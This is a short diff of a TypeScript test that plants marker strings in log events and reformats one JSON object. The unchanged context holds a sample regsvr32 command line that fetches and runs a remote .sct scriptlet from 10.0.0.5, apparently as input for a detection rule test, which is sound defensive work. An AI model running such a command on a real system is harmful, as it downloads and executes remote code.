@@ -84,7 +84,11 @@ test('a planted string is found in a file, as UTF-8 and as UTF-16', (context) =>
 async function plant(server: ServerUnderTest): Promise<void> {
   const rule = readMatchedRule(scriptletRule);
   const lines = [
-    JSON.stringify({ message: planted.ordinary, [planted.fieldName]: 1, deep: [{ deeper: { deepest: planted.nested } }] }),
+    JSON.stringify({
+      message: planted.ordinary,
+      [planted.fieldName]: 1,
+      deep: [{ deeper: { deepest: planted.nested } }],
+    }),
     JSON.stringify({
       ...rule.event,
       CommandLine: `regsvr32 /i:http://10.0.0.5/${planted.commandLine}.sct scrobj.dll`,
